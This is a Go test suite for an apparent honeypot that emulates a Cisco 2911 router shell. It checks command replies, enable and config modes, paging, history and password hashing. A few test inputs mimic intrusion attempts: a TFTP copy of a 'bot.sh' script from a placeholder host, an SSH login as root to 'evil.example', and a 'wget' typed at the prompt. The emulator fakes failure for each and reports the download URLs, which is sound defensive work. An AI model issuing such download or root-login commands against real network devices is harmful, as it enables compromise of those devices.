package ios

import (
	"context"
	"io"
	"strings"
	"testing"
	"time"
)

// reply runs one command line in mode m and returns what the session
// printed for it, without the echo and the next prompt.
func reply(t *testing.T, m mode, line string) string {
	t.Helper()
	// The length 0 turns paging off; TestMorePaging covers it.
	input := "terminal length 0\r" + line + "\r"
	if m != modeUser {
		input = "enable\rx\r" + input
	}
	if m == modeConfig {
		input = "enable\rx\rterminal length 0\rconfigure terminal\r" + line + "\r"
	}
	c, out := session(t, Config{Source: "192.0.2.7", Enable: func([]byte) bool { return true }}, input)
	out = strings.ReplaceAll(out, "\r\n", "\n")
	start := strings.LastIndex(out, line+"\n")
	if start < 0 {
		t.Fatalf("no echo of %q in %q", line, out)
	}
	out = out[start+len(line)+1:]
	return strings.TrimSuffix(out, c.prompt())
}

func TestCommandReplies(t *testing.T) {
	host := DefaultHostname(testSeed)
	tests := []struct {
		name string
		mode mode
		line string
		want string
	}{
		{"ambiguous", modeUser, "s", "% Ambiguous command:  \"s\"\n"},
		{"ambiguous line", modeUser, "sh i", "% Ambiguous command:  \"sh i\"\n"},
		{"incomplete", modeUser, "show ip", "% Incomplete command.\n\n"},
		{"show alone", modeUser, "show", "% Type \"show ?\" for a list of subcommands\n"},
		{"running-config needs enable", modeUser, "sh run", strings.Repeat(" ", len(host)+1+3) + "^\n% Invalid input detected at '^' marker.\n\n"},
		{"configure needs enable", modeUser, "conf t", strings.Repeat(" ", len(host)+1) + "^\n% Invalid input detected at '^' marker.\n\n"},
		{"invalid word", modePriv, "show vresion", strings.Repeat(" ", len(host)+1+5) + "^\n% Invalid input detected at '^' marker.\n\n"},
		{"extra word", modePriv, "show clock now", strings.Repeat(" ", len(host)+1+11) + "^\n% Invalid input detected at '^' marker.\n\n"},
		{"unknown word", modeUser, "wget", "Translating \"wget\"...domain server (255.255.255.255)\n% Unknown command or computer name, or unable to find computer address\n"},
		{"unknown word enabled", modePriv, "ls -la", "Translating \"ls\"...domain server (255.255.255.255)\n% Unknown command or computer name, or unable to find computer address\n"},
		{"clock", modeUser, "sh clock", "*09:26:53.589 UTC Sat Mar 14 2026\n"},
		{"privilege", modePriv, "show privilege", "Current privilege level is 15\n"},
		{"ping", modeUser, "ping 192.0.2.1", "Type escape sequence to abort.\nSending 5, 100-byte ICMP Echos to 192.0.2.1, timeout is 2 seconds:\n.....\nSuccess rate is 0 percent (0/5)\n"},
		{"ping name", modeUser, "ping evil.example", "Translating \"evil.example\"...domain server (255.255.255.255)\n% Unrecognized host or address, or protocol not running.\n\n"},
		{"ping alone", modeUser, "ping", "% Incomplete command.\n\n"},
		{"write", modePriv, "wr mem", "Building configuration...\n[OK]\n"},
		{"terminal length", modeUser, "terminal length 0", ""},
		{"config unknown", modeConfig, "frobnicate", strings.Repeat(" ", len(host)+9) + "^\n% Invalid input detected at '^' marker.\n\n"},
		{"interface without number", modeConfig, "interface gi", "% Incomplete command.\n\n"},
		{"unknown interface type", modeConfig, "interface foo0", strings.Repeat(" ", len(host)+9+10) + "^\n% Invalid input detected at '^' marker.\n\n"},
		{"loopback out of range", modeConfig, "interface Loopback2147483648", strings.Repeat(" ", len(host)+9+10) + "^\n% Invalid input detected at '^' marker.\n\n"},
		{"loopback not a number", modeConfig, "interface lo 5x", strings.Repeat(" ", len(host)+9+10) + "^\n% Invalid input detected at '^' marker.\n\n"},
		{"loopback largest", modeConfig, "interface Loopback2147483647", ""},
		{"config do", modeConfig, "do sh priv", "Current privilege level is 15\n"},
		{"config do invalid", modeConfig, "do sh foo", strings.Repeat(" ", len(host)+9+6) + "^\n% Invalid input detected at '^' marker.\n\n"},
		{"ip brief", modeUser, "sh ip int br", "Interface                  IP-Address      OK? Method Status                Protocol\n" +
			"Embedded-Service-Engine0/0 unassigned      YES NVRAM  administratively down down\n" +
			"GigabitEthernet0/0         10.231.72.124   YES NVRAM  up                    up\n" +
			"GigabitEthernet0/1         192.168.85.1    YES NVRAM  up                    up\n" +
			"GigabitEthernet0/2         unassigned      YES NVRAM  administratively down down\n"},
		{"include", modePriv, "sh run | i ^hostname", "hostname " + host + "\n"},
		{"exclude", modeUser, "sh ip int br | e down", "Interface                  IP-Address      OK? Method Status                Protocol\n" +
			"GigabitEthernet0/0         10.231.72.124   YES NVRAM  up                    up\n" +
			"GigabitEthernet0/1         192.168.85.1    YES NVRAM  up                    up\n"},
		{"count", modeUser, "show version | count Gigabit", "Number of lines which match regexp = 1\n"},
		{"section", modePriv, "sh run | section interface GigabitEthernet0/1", "interface GigabitEthernet0/1\n description LAN\n ip address 192.168.85.1 255.255.255.0\n duplex auto\n speed auto\n"},
		{"begin", modePriv, "sh run | b ^line vty", "line vty 0 4\n login local\n transport input telnet ssh\n!\nscheduler allocate 20000 1000\n!\nend\n\n"},
		{"bad modifier", modeUser, "sh clock | x", strings.Repeat(" ", len(host)+1+11) + "^\n% Invalid input detected at '^' marker.\n\n"},
		{"modifier alone", modeUser, "sh clock |", "% Incomplete command.\n\n"},
		{"pipe after ping", modeUser, "ping 192.0.2.1 | i x", strings.Repeat(" ", len(host)+1+15) + "^\n% Invalid input detected at '^' marker.\n\n"},
		{"processes", modeUser, "sh proc cpu | i ^ *(PID|1 )", " PID Runtime(ms)   Invoked      uSecs   5Sec   1Min   5Min TTY Process\n" +
			"   1       13735    381547         36  0.00%  0.00%  0.00%   0 Chunk Manager\n"},
		{"dir", modePriv, "dir | i ^ +[12] ", "    1  -rw-        112133916  Nov 17 2025 09:06:16 +00:00  c2900-universalk9-mz.SPA.157-3.M5.bin\n" +
			"    2  -rw-             3000  Oct 13 2024 09:06:16 +00:00  cpconfig-29xx.cfg\n"},
		{"ssh options", modeUser, "ssh -l root evil.example", "Translating \"evil.example\"...domain server (255.255.255.255)\n% Bad IP address or host name\n"},
		{"route networks", modeUser, "sh ip route | i subnetted", "      10.0.0.0/8 is variably subnetted, 2 subnets, 2 masks\n      192.168.85.0/24 is variably subnetted, 2 subnets, 2 masks\n"},
		{"users", modeUser, "show users", "    Line       User       Host(s)              Idle       Location\n" +
			"*  3 vty 0     admin      idle                 00:00:00   192.0.2.7\n\n" +
			"  Interface    User               Mode         Idle     Peer Address\n\n"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := reply(t, tc.mode, tc.line); got != tc.want {
				t.Errorf("%q:\n got %q\nwant %q", tc.line, got, tc.want)
			}
		})
	}
}

func TestAbbreviationsMatchFullCommands(t *testing.T) {
	for _, pair := range [][2]string{
		{"sh ver", "show version"},
		{"sh run", "show running-config"},
		{"sh ip int br", "show ip interface brief"},
		{"SH CLOCK", "show clock"},
		{"sh proc cpu", "show processes cpu"},
		{"sh inv", "show inventory"},
		{"sh flash:", "show flash:"},
	} {
		if a, b := reply(t, modePriv, pair[0]), reply(t, modePriv, pair[1]); a != b || a == "" {
			t.Errorf("%q gave %q, %q gave %q", pair[0], a, pair[1], b)
		}
	}
}

func TestShowVersion(t *testing.T) {
	got := reply(t, modeUser, "show version")
	for _, want := range []string{
		"Cisco IOS Software, C2900 Software (C2900-UNIVERSALK9-M), Version 15.7(3)M5, RELEASE SOFTWARE (fc1)\n",
		DefaultHostname(testSeed) + " uptime is 13 weeks, 1 day, 17 hours, 41 minutes\n",
		"System image file is \"flash0:c2900-universalk9-mz.SPA.157-3.M5.bin\"\n",
		"Cisco CISCO2911/K9 (revision 1.0) with 487424K/36864K bytes of memory.\nProcessor board ID FHK17011X4W\n",
		"*0        CISCO2911/K9          FHK17011X4W\n",
		"Configuration register is 0x2102\n",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("show version lacks %q:\n%s", want, got)
		}
	}
}

func TestHelpListings(t *testing.T) {
	_, user := session(t, Config{}, "?")
	user = strings.ReplaceAll(user, "\r\n", "\n")
	host := DefaultHostname(testSeed)
	if !strings.HasPrefix(user, host+">?\nExec commands:\n  access-enable    Create a temporary Access-List entry\n") ||
		!strings.Contains(user, "  mrinfo           Request neighbor and version information from a multicast\n                   router\n") ||
		strings.Contains(user, "configure") || !strings.HasSuffix(user, "\n\n"+host+">") {
		t.Errorf("user help:\n%s", user)
	}
	_, priv := session(t, Config{Enable: func([]byte) bool { return true }}, "en\rx\r?")
	if !strings.Contains(priv, "  configure        Enter configuration mode\r\n") || !strings.Contains(priv, "  write            Write running configuration to memory, network, or terminal\r\n") {
		t.Errorf("privileged help:\n%s", priv)
	}
	_, partial := session(t, Config{}, "s?")
	if !strings.Contains(partial, "s?\r\nset  show  ssh  systat  \r\n\r\n"+host+">s") {
		t.Errorf("partial help %q", partial)
	}
	_, arg := session(t, Config{}, "ping ?")
	if !strings.Contains(arg, "ping ?\r\n  WORD  Ping destination address or hostname\r\n\r\n") {
		t.Errorf("argument help %q", arg)
	}
	_, bad := session(t, Config{}, "xyz ?")
	if !strings.Contains(bad, "xyz ?\r\n% Unrecognized command\r\n") {
		t.Errorf("help after a bad word %q", bad)
	}
}

func TestEnableAndDisable(t *testing.T) {
	var tried []string
	cfg := Config{Enable: func(p []byte) bool { tried = append(tried, string(p)); return string(p) == "class" }}
	c, out := session(t, cfg, "enable\ra\rb\rc\renable\rclass\rdisable\r")
	host := c.Hostname()
	want := host + ">enable\r\nPassword: \r\nPassword: \r\nPassword: \r\n% Bad secrets\r\n\r\n" +
		host + ">enable\r\nPassword: \r\n" + host + "#disable\r\n" + host + ">"
	if out != want {
		t.Errorf("transcript\n got %q\nwant %q", out, want)
	}
	if strings.Join(tried, ",") != "a,b,c,class" {
		t.Errorf("passwords tried %q", tried)
	}
	if c.mode != modeUser {
		t.Errorf("mode %d after disable", c.mode)
	}
}

func TestConfigModeChangesRunningConfig(t *testing.T) {
	var cmds []string
	cfg := Config{Enable: func([]byte) bool { return true }, OnCommand: func(l string) { cmds = append(cmds, l) }}
	c, out := session(t, cfg, "en\rx\rterm len 0\rconf t\rhostname EDGE\rusername bob secret hunter2\rint gi0/2\rdescription uplink\rip address 198.51.100.2 255.255.255.252\rno shutdown\rexit\rip domain-name corp.example\rline vty 0 4\rtransport input all\rend\rsh run\rsh start\r")
	out = strings.ReplaceAll(out, "\r\n", "\n")
	for _, want := range []string{
		"Enter configuration commands, one per line.  End with CNTL/Z.\n" + DefaultHostname(testSeed) + "(config)#hostname EDGE\nEDGE(config)#",
		"EDGE(config-if)#", "EDGE(config)#ip domain-name", "EDGE#sh run",
		"hostname EDGE\n", "! Last configuration change at 09:26:53 UTC Sat Mar 14 2026 by admin\n",
		"username bob secret 5 $1$", "interface GigabitEthernet0/2\n description uplink\n ip address 198.51.100.2 255.255.255.252\n duplex auto\n",
		"ip domain-name corp.example\n",
		"line vty 0 4\n login local\n transport input all\n!\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("transcript lacks %q", want)
		}
	}
	if strings.Contains(out[strings.Index(out, "EDGE#sh run"):], "hunter2") {
		t.Error("clear-text secret shown in the configuration")
	}
	start := out[strings.Index(out, "EDGE#sh start"):]
	if strings.Contains(start, "hostname EDGE") || !strings.Contains(start, "hostname "+DefaultHostname(testSeed)) || !strings.HasPrefix(start, "EDGE#sh start\nUsing ") {
		t.Errorf("startup-config changed by the session:\n%s", start)
	}
	if c.hostname != "EDGE" || len(cmds) != 16 || cmds[2] != "conf t" {
		t.Errorf("hostname %q commands %q", c.hostname, cmds)
	}

	// A new session starts from the decky's configuration again.
	_, fresh := session(t, cfg, "en\rx\rterm len 0\rsh run\r")
	if strings.Contains(fresh, "EDGE") || strings.Contains(fresh, "bob") {
		t.Error("configuration leaked into the next session")
	}
}

func TestCtrlZLeavesConfig(t *testing.T) {
	c, out := session(t, Config{Enable: func([]byte) bool { return true }}, "en\rx\rconf t\rint gi0/1\r\x1a")
	if !strings.HasSuffix(out, "(config-if)#^Z\r\n"+c.Hostname()+"#") {
		t.Errorf("after ^Z %q", out)
	}
}

func TestLineEditing(t *testing.T) {
	var cmds []string
	_, out := session(t, Config{OnCommand: func(l string) { cmds = append(cmds, l) }}, "shx\x7f ver\x15sh cl\t\r")
	if len(cmds) != 1 || cmds[0] != "sh clock " {
		t.Errorf("commands %q", cmds)
	}
	if !strings.Contains(out, "shx\b \b ver\b \b\b \b\b \b\b \b\b \b\b \bsh clock ") {
		t.Errorf("echo %q", out)
	}
}

func TestPerDeckyValues(t *testing.T) {
	a := newDevice(testSeed, "", testNow)
	b := newDevice(testSeed, "", testNow.Add(time.Hour))
	o := newDevice(otherSeed, "", testNow)
	if a.serial != b.serial || a.mac != b.mac || !a.boot.Equal(b.boot) || a.wan != b.wan || a.enableHash != b.enableHash || a.hostname != b.hostname {
		t.Errorf("one seed gave two routers: %+v %+v", a, b)
	}
	if a.serial == o.serial || a.mac == o.mac || a.boot.Equal(o.boot) || a.wan == o.wan || a.enableHash == o.enableHash {
		t.Errorf("two seeds share values: %+v %+v", a, o)
	}
	if len(a.serial) != 11 || !strings.HasPrefix(a.serial, "F") {
		t.Errorf("serial %q", a.serial)
	}
	if up := testNow.Sub(a.boot); up < time.Hour || up > 240*24*time.Hour {
		t.Errorf("uptime %v", up)
	}
	named := newDevice(testSeed, "core1", testNow)
	if named.hostname != "core1" {
		t.Errorf("hostname option ignored: %q", named.hostname)
	}
}

func TestFormatUptime(t *testing.T) {
	for d, want := range map[time.Duration]string{
		30 * time.Second:                    "0 minutes",
		time.Minute:                         "1 minute",
		49 * time.Minute:                    "49 minutes",
		(24*8+2)*time.Hour + 7*time.Minute:  "1 week, 1 day, 2 hours, 7 minutes",
		(365+14)*24*time.Hour + 3*time.Hour: "1 year, 2 weeks, 3 hours",
	} {
		if got := formatUptime(d); got != want {
			t.Errorf("formatUptime(%v) = %q, want %q", d, got, want)
		}
	}
}

func TestMD5Crypt(t *testing.T) {
	// Expected values from openssl passwd -1 -salt.
	for _, tc := range [][3]string{
		{"password", "abcd", "$1$abcd$ABOCfICGTWeBeG/njucVA1"},
		{"cisco", "Xy9Z", "$1$Xy9Z$EDYB5iY/DT3UPDRZOI7H//"},
		{"", "ab", "$1$ab$rn6aQS/o7141mj179E/zA."},
	} {
		if got := md5Crypt([]byte(tc[0]), []byte(tc[1])); got != tc[2] {
			t.Errorf("md5Crypt(%q, %q) = %q, want %q", tc[0], tc[1], got, tc[2])
		}
	}
}

func TestSessionEndsWithContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	c := New(Config{Seed: testSeed})
	// Nothing is ever written to the pipe, so only the context can end
	// the session.
	r, w := io.Pipe()
	t.Cleanup(func() { _ = w.Close() })
	if err := c.Interactive(ctx, &fakeTerm{in: r}); err != nil {
		t.Errorf("Interactive after cancel: %v", err)
	}
}

func TestMorePaging(t *testing.T) {
	c, out := session(t, Config{}, "show version\r \rq")
	out = strings.ReplaceAll(out, "\r\n", "\n")
	rub := "\b\b\b\b\b\b\b\b\b\b          \b\b\b\b\b\b\b\b\b\b"
	pages := strings.Split(out, " --More-- "+rub)
	if len(pages) != 4 {
		t.Fatalf("got %d pauses, want 3: %q", len(pages)-1, out)
	}
	// The first screen holds 23 lines, space shows 23 more, Return one.
	// The first part also holds the echoed command line.
	if n := strings.Count(pages[0], "\n"); n != 24 {
		t.Errorf("first screen has %d lines", n)
	}
	if n := strings.Count(pages[1], "\n"); n != 23 {
		t.Errorf("second screen has %d lines", n)
	}
	if n := strings.Count(pages[2], "\n"); n != 1 {
		t.Errorf("Return showed %d lines", n)
	}
	if pages[3] != c.prompt() {
		t.Errorf("after q: %q", pages[3])
	}
}

func TestHistoryRecall(t *testing.T) {
	var cmds []string
	_, out := session(t, Config{OnCommand: func(l string) { cmds = append(cmds, l) }}, "sh clock\rsh priv\r\x1b[A\x1b[A\x1b[B\r\x10\x0e\x0e\r")
	if strings.Join(cmds, "|") != "sh clock|sh priv|sh priv" {
		t.Errorf("commands %q", cmds)
	}
	if !strings.Contains(out, ">sh priv\b \b\b \b\b \b\b \b\b \b\b \b\b \bsh clock\b \b\b \b\b \b\b \b\b \b\b \b\b \b\b \bsh priv\r\n") {
		t.Errorf("recall echo %q", out)
	}
}

func TestCopyFromNetworkIsReported(t *testing.T) {
	var urls []string
	cfg := Config{Enable: func([]byte) bool { return true }, OnDownload: func(u string) { urls = append(urls, u) }}
	c, out := session(t, cfg, "en\rx\rcopy tftp://203.0.113.9/bot.sh flash:\r\rcopy tftp: flash:\r203.0.113.9\r/x/y.bin\r\rcopy nvram:foo flash:\r")
	host := c.Hostname()
	want := host + "#copy tftp://203.0.113.9/bot.sh flash:\r\nDestination filename [bot.sh]? \r\n" +
		"Accessing tftp://203.0.113.9/bot.sh...\r\n%Error opening tftp://203.0.113.9/bot.sh (Timed out)\r\n" +
		host + "#copy tftp: flash:\r\nAddress or name of remote host []? 203.0.113.9\r\nSource filename []? /x/y.bin\r\n" +
		"Destination filename [y.bin]? \r\nAccessing tftp://203.0.113.9/x/y.bin...\r\n%Error opening tftp://203.0.113.9/x/y.bin (Timed out)\r\n" +
		host + "#copy nvram:foo flash:\r\n%Error opening nvram:foo (No such file or directory)\r\n" + host + "#"
	if got := out[strings.Index(out, host+"#copy"):]; got != want {
		t.Errorf("transcript\n got %q\nwant %q", got, want)
	}
	if strings.Join(urls, " ") != "tftp://203.0.113.9/bot.sh tftp://203.0.113.9/x/y.bin" {
		t.Errorf("reported %q", urls)
	}
}

func TestLongLineIsCut(t *testing.T) {
	var cmds []string
	session(t, Config{OnCommand: func(l string) { cmds = append(cmds, l) }}, strings.Repeat("a", maxLine+500)+"\r")
	if len(cmds) != 1 {
		t.Fatalf("got %d commands, want 1", len(cmds))
	}
	if len(cmds[0]) != maxLine {
		t.Errorf("command of %d bytes, want %d", len(cmds[0]), maxLine)
	}
}
